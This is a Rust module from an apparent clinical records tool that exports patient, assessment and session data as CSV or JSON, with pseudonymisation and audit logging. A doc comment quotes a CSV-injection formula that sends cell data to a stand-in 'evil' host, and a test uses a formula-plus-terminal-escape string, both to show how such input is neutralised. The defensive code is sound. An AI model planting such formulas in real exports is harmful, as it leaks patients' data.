//! Export: render patients, assessments or sessions as CSV or JSON, optionally pseudonymised, and write the file
//! (mode 0600) inside the store's audited export transaction.

use std::borrow::Cow;
use std::collections::BTreeMap;
use std::io::Write;
use std::os::unix::fs::OpenOptionsExt as _;
use std::path::Path;

use chrono::NaiveDate;
use serde_json::Value;

use crate::domain::{Assessment, Condition, Patient, SessionLog};
use crate::store::export::{ExportData, ExportKind, Period};
use crate::store::{Store, StoreError};

#[derive(Debug, Clone, Copy, PartialEq, Eq, strum::IntoStaticStr, strum::VariantArray)]
#[strum(serialize_all = "snake_case")]
pub enum Format {
    Csv,
    Json,
}

/// "1955-1959": the 5-year band of a birth year, in place of the year in pseudonymised exports.
pub fn birth_band(year: i32) -> String {
    let start = year - year.rem_euclid(5);
    format!("{start}-{}", start + 4)
}

fn text(v: Option<Value>) -> String {
    match v {
        None | Some(Value::Null) => String::new(),
        Some(Value::String(s)) => s,
        Some(other) => other.to_string(),
    }
}

fn enum_cell<T: serde::Serialize>(v: &Option<T>) -> String {
    text(v.as_ref().and_then(|v| serde_json::to_value(v).ok()))
}

fn num(x: f64) -> String {
    if x.fract() == 0.0 {
        format!("{x:.0}")
    } else {
        format!("{x}")
    }
}

/// The CSV columns that hold numbers Praxis wrote itself (never text a user typed): left as they are, so a negative
/// day number stays a number. Every other column is text and passes through [`text_cell`].
const NUMBER_COLUMNS: [&str; 8] = [
    "score",
    "birth_year",
    "day",
    "minutes",
    "repetitions",
    "level",
    "success_rate",
    "rpe",
];

/// A text cell that a spreadsheet would run as a formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage
/// return: `=HYPERLINK("http://evil/?"&A1)`, `@SUM(...)`, `-2+3`) gets a leading `'`, which makes the spreadsheet
/// show it as text. This is OWASP's advice for CSV injection (<https://owasp.org/www-community/attacks/CSV_Injection>).
/// The cell is then no longer exactly the stored text; JSON exports are exact.
pub fn neutralise_formula(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A CSV text cell: characters a terminal would obey written visibly (`\u{1b}`; newlines and tabs kept), so the CSV
/// is safe to print, then [`neutralise_formula`]. JSON exports keep the exact text.
fn text_cell(cell: &str) -> String {
    let shown = crate::domain::text::visible_lines(cell);
    neutralise_formula(&shown).into_owned()
}

/// A pseudonymised export's day 0 and pseudonym of each patient (`None`: not pseudonymised). See
/// [`ExportData::day_zero`] and [`ExportData::pseudonyms`].
type DayZero<'a> = Option<&'a ExportData>;

/// The code as exported: the patient's pseudonym when pseudonymised, else the code.
fn exported_code(code: &str, pseudo: DayZero<'_>) -> String {
    match pseudo {
        // Every exported patient has one; never fall back to the code.
        Some(data) => data
            .pseudonyms
            .get(code)
            .cloned()
            .unwrap_or_else(|| "S-unknown".into()),
        None => code.to_string(),
    }
}

/// Days from the patient's day 0 to `date`, as a pseudonymised export shows dates.
fn day_number(day_zero: &BTreeMap<String, NaiveDate>, code: &str, date: NaiveDate) -> Value {
    day_zero
        .get(code)
        .map_or(Value::Null, |zero| (date - *zero).num_days().into())
}

/// The condition's facts in a pseudonymised export: free-text facts ([`Condition::FREE_TEXT_FACTS`]) are dropped,
/// and every exact date (`onset_date`: any key ending in `_date`) becomes its month (`onset_month: "2025-09"`) and
/// its day number (`onset_day: 0`).
fn pseudonymise_facts(facts: &mut Value, code: &str, day_zero: &BTreeMap<String, NaiveDate>) {
    let Some(o) = facts.as_object_mut() else {
        return;
    };
    for k in Condition::FREE_TEXT_FACTS {
        o.remove(k);
    }
    let keys: Vec<String> = o.keys().filter(|k| k.ends_with("_date")).cloned().collect();
    for key in keys {
        let stem = &key[..key.len() - "_date".len()];
        let date = o
            .remove(&key)
            .and_then(|v| v.as_str().and_then(|t| t.parse::<NaiveDate>().ok()));
        if let Some(d) = date {
            o.insert(
                format!("{stem}_month"),
                d.format("%Y-%m").to_string().into(),
            );
            o.insert(format!("{stem}_day"), day_number(day_zero, code, d));
        }
    }
}

/// The condition's facts without its `kind` tag, as JSON text (dates coarsened when pseudonymised).
fn facts(p: &Patient, pseudo: DayZero<'_>) -> (String, String) {
    let mut v = serde_json::to_value(&p.condition).unwrap_or(Value::Null);
    let kind = v
        .as_object_mut()
        .and_then(|o| o.remove("kind"))
        .map(|k| text(Some(k)))
        .unwrap_or_default();
    if let Some(data) = pseudo {
        pseudonymise_facts(&mut v, &p.code, &data.day_zero);
    }
    // Valid JSON whose text holds nothing a terminal obeys, so the CSV cell needs no further escaping.
    (
        kind,
        crate::domain::text::json_safe(&v.to_string()).into_owned(),
    )
}

fn patient_table(ps: &[Patient], pseudo: DayZero<'_>) -> (Vec<&'static str>, Vec<Vec<String>>) {
    let rows = ps
        .iter()
        .map(|p| {
            let (kind, facts) = facts(p, pseudo);
            let mut r = vec![exported_code(&p.code, pseudo)];
            if pseudo.is_some() {
                r.push(birth_band(p.birth_year));
            } else {
                r.push(p.name.clone().unwrap_or_default());
                r.push(p.birth_year.to_string());
            }
            r.extend([
                enum_cell(&p.sex),
                enum_cell(&p.dominant_hand),
                enum_cell(&p.affected_side),
                kind,
                facts,
            ]);
            if pseudo.is_none() {
                r.extend([p.notes.clone(), p.created_at.clone(), p.updated_at.clone()]);
            }
            r
        })
        .collect();
    let mut h = vec!["code"];
    if pseudo.is_some() {
        h.push("birth_years");
    } else {
        h.extend(["name", "birth_year"]);
    }
    h.extend([
        "sex",
        "dominant_hand",
        "affected_side",
        "condition",
        "facts",
    ]);
    if pseudo.is_none() {
        h.extend(["notes", "created_at", "updated_at"]);
    }
    (h, rows)
}

fn assessment_table(
    xs: &[Assessment],
    pseudo: DayZero<'_>,
) -> (Vec<&'static str>, Vec<Vec<String>>) {
    let rows = xs
        .iter()
        .map(|a| {
            let mut r = vec![
                exported_code(&a.patient_code, pseudo),
                a.instrument.clone(),
                num(a.score),
            ];
            match pseudo {
                Some(data) => r.push(text(Some(day_number(
                    &data.day_zero,
                    &a.patient_code,
                    a.date,
                )))),
                None => r.extend([
                    a.date.to_string(),
                    a.assessor.clone().unwrap_or_default(),
                    a.notes.clone(),
                ]),
            }
            r
        })
        .collect();
    let h = match pseudo {
        Some(_) => vec!["patient_code", "instrument", "score", "day"],
        None => vec![
            "patient_code",
            "instrument",
            "score",
            "date",
            "assessor",
            "notes",
        ],
    };
    (h, rows)
}

fn session_table(xs: &[SessionLog], pseudo: DayZero<'_>) -> (Vec<&'static str>, Vec<Vec<String>>) {
    let opt = |v: Option<String>| v.unwrap_or_default();
    let rows = xs
        .iter()
        .map(|s| {
            let when = match pseudo {
                Some(data) => text(Some(day_number(
                    &data.day_zero,
                    &s.patient_code,
                    s.started_at.date(),
                ))),
                None => s.started_at.format("%Y-%m-%dT%H:%M:%S").to_string(),
            };
            let mut r = vec![
                exported_code(&s.patient_code, pseudo),
                when,
                s.protocol_id.clone(),
                s.minutes.to_string(),
                s.repetitions.to_string(),
                opt(s.level.map(|x| x.to_string())),
                opt(s.success_rate.map(num)),
                opt(s.rpe.map(|x| x.to_string())),
            ];
            if pseudo.is_none() {
                r.extend([s.notes.clone(), opt(s.clinician.clone())]);
            }
            r
        })
        .collect();
    let mut h = vec![
        "patient_code",
        if pseudo.is_some() {
            "day"
        } else {
            "started_at"
        },
        "protocol_id",
        "minutes",
        "repetitions",
        "level",
        "success_rate",
        "rpe",
    ];
    if pseudo.is_none() {
        h.extend(["notes", "clinician"]);
    }
    (h, rows)
}

/// Pseudonymise one JSON record: the patient's code becomes their pseudonym; drop the personal fields, the
/// record-keeping times and version, and free-text facts; give the birth year as its 5-year band, exact dates as
/// day numbers from the patient's day 0 (`date`, `started_at` -> `day`) and the condition's dates as month and day
/// number.
fn pseudonymise(mut v: Value, data: &ExportData) -> Value {
    let day_zero = &data.day_zero;
    let Some(o) = v.as_object_mut() else {
        return v;
    };
    for k in [
        "name",
        "notes",
        "assessor",
        "clinician",
        "id",
        "created_at",
        "updated_at",
        "version",
    ] {
        o.remove(k);
    }
    if let Some(y) = o.remove("birth_year").and_then(|y| y.as_i64()) {
        o.insert("birth_years".into(), Value::String(birth_band(y as i32)));
    }
    let code = o
        .get("patient_code")
        .or_else(|| o.get("code"))
        .and_then(Value::as_str)
        .unwrap_or_default()
        .to_string();
    for k in ["date", "started_at"] {
        let date = o.remove(k).and_then(|d| {
            d.as_str()
                .and_then(|t| t.get(..10))
                .and_then(|t| t.parse::<NaiveDate>().ok())
        });
        if let Some(d) = date {
            o.insert("day".into(), day_number(day_zero, &code, d));
        }
    }
    if let Some(c) = o.get_mut("condition") {
        pseudonymise_facts(c, &code, day_zero);
    }
    for k in ["code", "patient_code"] {
        if o.contains_key(k) {
            o.insert(k.into(), exported_code(&code, Some(data)).into());
        }
    }
    v
}

/// An export rendered in memory: its bytes and the offset just past each record, so that a write cut short can say
/// how many whole records got out.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Rendered {
    pub bytes: Vec<u8>,
    /// Offset in `bytes` just past each record (CSV: its line; JSON: its object), in order.
    pub record_ends: Vec<usize>,
}

impl Rendered {
    /// How many whole records lie in the first `written` bytes.
    pub fn records_within(&self, written: usize) -> usize {
        self.record_ends.partition_point(|&end| end <= written)
    }
}

/// Render the export. Pure: no I/O. JSON is an array laid out exactly as `serde_json::to_vec_pretty` lays it out,
/// except that characters a terminal would obey are written as `\uXXXX` escapes (the same values).
pub fn render(
    kind: ExportKind,
    data: &ExportData,
    format: Format,
    pseudo: bool,
) -> anyhow::Result<Rendered> {
    match format {
        Format::Json => {
            let values: Result<Vec<Value>, serde_json::Error> = match kind {
                ExportKind::Patients => data.patients.iter().map(serde_json::to_value).collect(),
                ExportKind::Assessments => {
                    data.assessments.iter().map(serde_json::to_value).collect()
                }
                ExportKind::Sessions => data.sessions.iter().map(serde_json::to_value).collect(),
            };
            let values = values?;
            let values: Vec<Value> = if pseudo {
                values.into_iter().map(|v| pseudonymise(v, data)).collect()
            } else {
                values
            };
            if values.is_empty() {
                return Ok(Rendered {
                    bytes: b"[]\n".to_vec(),
                    record_ends: Vec::new(),
                });
            }
            // One element at a time, indented one level, so each record's end is known.
            let mut out = b"[\n".to_vec();
            let mut ends = Vec::with_capacity(values.len());
            for (i, v) in values.iter().enumerate() {
                let pretty = serde_json::to_string_pretty(v)?;
                // The exact values, safe to print on a terminal (see text::json_safe).
                let one = crate::domain::text::json_safe(&pretty);
                for (j, line) in one.lines().enumerate() {
                    if j > 0 {
                        out.push(b'\n');
                    }
                    out.extend_from_slice(b"  ");
                    out.extend_from_slice(line.as_bytes());
                }
                if i + 1 < values.len() {
                    out.push(b',');
                }
                out.push(b'\n');
                ends.push(out.len());
            }
            out.extend_from_slice(b"]\n");
            Ok(Rendered {
                bytes: out,
                record_ends: ends,
            })
        }
        Format::Csv => {
            let zero = pseudo.then_some(data);
            let (headers, rows) = match kind {
                ExportKind::Patients => patient_table(&data.patients, zero),
                ExportKind::Assessments => assessment_table(&data.assessments, zero),
                ExportKind::Sessions => session_table(&data.sessions, zero),
            };
            let mut w = csv::Writer::from_writer(Vec::new());
            w.write_record(&headers)?;
            let mut ends = Vec::with_capacity(rows.len());
            for r in rows {
                for (cell, h) in r.iter().zip(&headers) {
                    if NUMBER_COLUMNS.contains(h) {
                        w.write_field(cell)?;
                    } else {
                        w.write_field(text_cell(cell).as_bytes())?;
                    }
                }
                w.write_record(None::<&[u8]>)?;
                w.flush()?;
                ends.push(w.get_ref().len());
            }
            Ok(Rendered {
                bytes: w.into_inner().map_err(|e| anyhow::anyhow!("{e}"))?,
                record_ends: ends,
            })
        }
    }
}

/// Export `kind` to `out`, a new file (mode 0600; never overwriting), in one audited transaction: the file exists
/// only if its audit row was committed. Returns the number of records.
pub fn export(
    store: &mut Store,
    kind: ExportKind,
    format: Format,
    pseudo: bool,
    period: Period,
    out: &Path,
) -> anyhow::Result<usize> {
    let dest = out.display().to_string();
    let mut created = false;
    let res = store.export_with(kind, period, pseudo, &dest, |data| {
        let r = render(kind, data, format, pseudo)
            .map_err(|e| StoreError::Invalid(format!("cannot write the export: {e}")))?;
        write_private(out, &r.bytes)?;
        created = true;
        Ok(())
    });
    match res {
        Ok((n, _)) => Ok(n),
        Err(e) => {
            // The audit row was not committed: take back the file, so no export exists without its audit row.
            if created {
                let _ = std::fs::remove_file(out);
            }
            Err(e.into())
        }
    }
}

/// Where [`export_to_stream`] says the data went, in the audit trail.
pub const STDOUT: &str = "standard output";

/// Export `kind` to a stream (standard output). Rendered in memory first and audited (committed) before the first
/// byte is written, so no data ever leaves without an audit row. If the write then fails (the reader closed the
/// pipe, as `praxis export ... | head -1` does, or any other error), a second audit row records the export as
/// incomplete, with the bytes and records written and left, and the error says so. Returns the number of records.
pub fn export_to_stream(
    store: &mut Store,
    kind: ExportKind,
    format: Format,
    pseudo: bool,
    period: Period,
    w: &mut dyn Write,
) -> anyhow::Result<usize> {
    let mut rendered = Rendered::default();
    let (n, export_row) = store.export_with(kind, period, pseudo, STDOUT, |data| {
        rendered = render(kind, data, format, pseudo)
            .map_err(|e| StoreError::Invalid(format!("cannot write the export: {e}")))?;
        Ok(())
    })?;
    let mut written = 0;
    let Err(e) = write_counting(w, &rendered.bytes, &mut written) else {
        return Ok(n);
    };
    let total = rendered.bytes.len();
    let done = rendered.records_within(written);
    let why = if e.kind() == std::io::ErrorKind::BrokenPipe {
        "the reader closed the pipe".to_string()
    } else {
        e.to_string()
    };
    let details = serde_json::json!({
        "kind": kind,
        "rows": n,
        "rows_written": done,
        "rows_left": n - done,
        "bytes": total,
        "bytes_written": written,
        "bytes_left": total - written,
        "reason": why,
    });
    let head = format!(
        "the export to {STDOUT} was cut short ({why}) after {written} of {total} bytes ({done} of {n} whole records)"
    );
    match store.audit_export_incomplete(export_row, STDOUT, &details) {
        Ok(row) => anyhow::bail!(
            "{head}; the audit trail records it as incomplete (row {row}, after the export's row {export_row})"
        ),
        Err(ae) => anyhow::bail!(
            "{head}; recording that in the audit trail failed too ({ae}), so its row {export_row} shows the whole \
             export"
        ),
    }
}

/// `write_all` then `flush`, counting in `written` the bytes the writer accepted.
fn write_counting(w: &mut dyn Write, mut bytes: &[u8], written: &mut usize) -> std::io::Result<()> {
    while !bytes.is_empty() {
        match w.write(bytes) {
            Ok(0) => return Err(std::io::ErrorKind::WriteZero.into()),
            Ok(k) => {
                *written += k;
                bytes = &bytes[k..];
            }
            Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
            Err(e) => return Err(e),
        }
    }
    w.flush()
}

fn write_private(path: &Path, bytes: &[u8]) -> Result<(), StoreError> {
    let io = |source| StoreError::Io {
        path: path.to_path_buf(),
        source,
    };
    if path.exists() {
        return Err(StoreError::Duplicate(format!(
            "{} already exists; choose another file (an export never overwrites one)",
            path.display()
        )));
    }
    let mut f = std::fs::OpenOptions::new()
        .write(true)
        .create_new(true)
        .mode(0o600)
        .open(path)
        .map_err(io)?;
    let res = f.write_all(bytes).and_then(|()| f.sync_all());
    if let Err(e) = res {
        let _ = std::fs::remove_file(path);
        return Err(io(e));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn birth_bands_are_five_years_wide() {
        assert_eq!(birth_band(1958), "1955-1959");
        assert_eq!(birth_band(1955), "1955-1959");
        assert_eq!(birth_band(1960), "1960-1964");
    }

    #[test]
    fn formulas_in_text_cells_are_neutralised_numbers_are_not() {
        for (cell, want) in [
            ("=1+1", "'=1+1"),
            ("+1", "'+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("a=1", "a=1"),
            ("", ""),
        ] {
            assert_eq!(neutralise_formula(cell), want);
        }
        // A pseudonymised session before the patient's day 0 has a negative day: a number column, left alone.
        let code = "P-0001".to_string();
        let day0 = NaiveDate::from_ymd_opt(2026, 1, 10).unwrap();
        let data = ExportData {
            sessions: vec![SessionLog {
                id: 1,
                patient_code: code.clone(),
                started_at: NaiveDate::from_ymd_opt(2026, 1, 7)
                    .unwrap()
                    .and_hms_opt(9, 0, 0)
                    .unwrap(),
                protocol_id: "balance-gait-older".into(),
                minutes: 30,
                repetitions: 40,
                level: None,
                success_rate: None,
                rpe: None,
                notes: "=cmd\u{1b}[2J".into(),
                clinician: Some("-me".into()),
            }],
            day_zero: [(code.clone(), day0)].into(),
            pseudonyms: [(code, "S-000000000001".to_string())].into(),
            ..ExportData::default()
        };
        let csv = |pseudo| {
            String::from_utf8(
                render(ExportKind::Sessions, &data, Format::Csv, pseudo)
                    .unwrap()
                    .bytes,
            )
            .unwrap()
        };
        assert_eq!(
            csv(true).lines().nth(1),
            Some("S-000000000001,-3,balance-gait-older,30,40,,,")
        );
        assert!(
            csv(false).contains(",'=cmd\\u{1b}[2J,'-me"),
            "{}",
            csv(false)
        );
    }

    fn store_with_assessments(n: usize) -> (tempfile::TempDir, Store) {
        use crate::domain::{Condition, OlderAdultFacts};
        let dir = tempfile::tempdir().unwrap();
        let mut store = Store::open(&dir.path().join("p.db")).unwrap();
        store
            .add_patient(&Patient {
                id: 0,
                code: "P-0001".into(),
                name: Some("Ada".into()),
                birth_year: 1950,
                sex: None,
                dominant_hand: None,
                affected_side: None,
                condition: Condition::OlderAdult(OlderAdultFacts::default()),
                notes: "multi\nline, \"quoted\" note".into(),
                created_at: String::new(),
                updated_at: String::new(),
                version: 0,
            })
            .unwrap();
        for i in 0..n {
            store
                .add_assessment(&Assessment {
                    id: 0,
                    patient_code: "P-0001".into(),
                    instrument: "tug_s".into(),
                    score: 10.0 + i as f64,
                    date: NaiveDate::from_ymd_opt(2026, 1, 1).unwrap()
                        + chrono::Days::new(i as u64),
                    assessor: None,
                    notes: format!("note {i}\nsecond line"),
                })
                .unwrap();
        }
        (dir, store)
    }

    fn data(store: &mut Store, kind: ExportKind) -> ExportData {
        let mut got = ExportData::default();
        store
            .export_with(kind, Period::ALL, false, "test", |d| {
                got = d.clone();
                Ok(())
            })
            .unwrap();
        got
    }

    #[test]
    fn json_is_laid_out_as_serde_pretty_and_record_ends_close_each_object() {
        let (_dir, mut store) = store_with_assessments(3);
        for kind in [
            ExportKind::Patients,
            ExportKind::Assessments,
            ExportKind::Sessions,
        ] {
            let d = data(&mut store, kind);
            for pseudo in [false, true] {
                let r = render(kind, &d, Format::Json, pseudo).unwrap();
                let v: Vec<Value> = serde_json::from_slice(&r.bytes).unwrap();
                let mut want = serde_json::to_vec_pretty(&v).unwrap();
                want.push(b'\n');
                assert_eq!(
                    String::from_utf8_lossy(&r.bytes),
                    String::from_utf8_lossy(&want)
                );
                assert_eq!(r.record_ends.len(), v.len());
                for (i, end) in r.record_ends.iter().enumerate() {
                    // A prefix ending at a record end, closed with "]", is the first i+1 records.
                    let mut prefix = r.bytes[..*end].to_vec();
                    if prefix.ends_with(b",\n") {
                        prefix.truncate(prefix.len() - 2);
                    }
                    prefix.extend_from_slice(b"]");
                    let head: Vec<Value> = serde_json::from_slice(&prefix).unwrap();
                    assert_eq!(head, v[..=i]);
                }
            }
        }
    }

    #[test]
    fn csv_record_ends_fall_after_whole_records_even_with_newlines_in_cells() {
        let (_dir, mut store) = store_with_assessments(4);
        let d = data(&mut store, ExportKind::Assessments);
        let r = render(ExportKind::Assessments, &d, Format::Csv, false).unwrap();
        assert_eq!(r.record_ends.len(), 4);
        assert_eq!(*r.record_ends.last().unwrap(), r.bytes.len());
        for (i, end) in r.record_ends.iter().enumerate() {
            let mut rd = csv::Reader::from_reader(&r.bytes[..*end]);
            let rows: Vec<csv::StringRecord> = rd.records().map(|x| x.unwrap()).collect();
            assert_eq!(rows.len(), i + 1);
            assert_eq!(&rows[i][5], format!("note {i}\nsecond line"));
        }
        assert_eq!(r.records_within(0), 0);
        assert_eq!(r.records_within(r.record_ends[1]), 2);
        assert_eq!(r.records_within(r.record_ends[1] - 1), 1);
    }

    /// Accepts `left` bytes, then fails as a closed pipe does.
    struct ClosesAfter {
        left: usize,
        got: Vec<u8>,
    }

    impl Write for ClosesAfter {
        fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
            if self.left == 0 {
                return Err(std::io::ErrorKind::BrokenPipe.into());
            }
            let k = buf.len().min(self.left).min(7);
            self.left -= k;
            self.got.extend_from_slice(&buf[..k]);
            Ok(k)
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }

    #[test]
    fn a_stream_cut_short_gets_a_second_audit_row_saying_what_was_left() {
        let (_dir, mut store) = store_with_assessments(5);
        let whole = render(
            ExportKind::Assessments,
            &data(&mut store, ExportKind::Assessments),
            Format::Csv,
            false,
        )
        .unwrap();
        let cut = whole.record_ends[1] + 3; // two whole records and part of the third
        let before = store.audit(None).unwrap().len();
        let mut w = ClosesAfter {
            left: cut,
            got: Vec::new(),
        };
        let err = export_to_stream(
            &mut store,
            ExportKind::Assessments,
            Format::Csv,
            false,
            Period::ALL,
            &mut w,
        )
        .unwrap_err()
        .to_string();
        assert_eq!(w.got, whole.bytes[..cut]);
        assert!(
            err.contains("cut short (the reader closed the pipe)"),
            "{err}"
        );
        assert!(
            err.contains(&format!(
                "after {cut} of {} bytes (2 of 5 whole records)",
                whole.bytes.len()
            )),
            "{err}"
        );
        let trail = store.audit(None).unwrap();
        assert_eq!(
            trail.len(),
            before + 2,
            "the export row, then the incomplete row"
        );
        let (export, incomplete) = (&trail[before], &trail[before + 1]);
        assert_eq!(export.action, "export");
        assert_eq!(export.after.as_ref().unwrap()["rows"], 5);
        assert_eq!(incomplete.action, "export_incomplete");
        let a = incomplete.after.as_ref().unwrap();
        assert_eq!(a["export_row"], export.id);
        assert_eq!(a["rows_written"], 2);
        assert_eq!(a["rows_left"], 3);
        assert_eq!(a["bytes_written"], cut);
        assert_eq!(a["bytes_left"], whole.bytes.len() - cut);
        assert!(err.contains(&format!("row {}", incomplete.id)), "{err}");
        assert!(store.verify_audit().unwrap().is_ok());

        // A whole write leaves one row only.
        let mut all = Vec::new();
        let n = export_to_stream(
            &mut store,
            ExportKind::Assessments,
            Format::Csv,
            false,
            Period::ALL,
            &mut all,
        )
        .unwrap();
        assert_eq!((n, all), (5, whole.bytes));
        assert_eq!(store.audit(None).unwrap().len(), before + 3);
    }
}
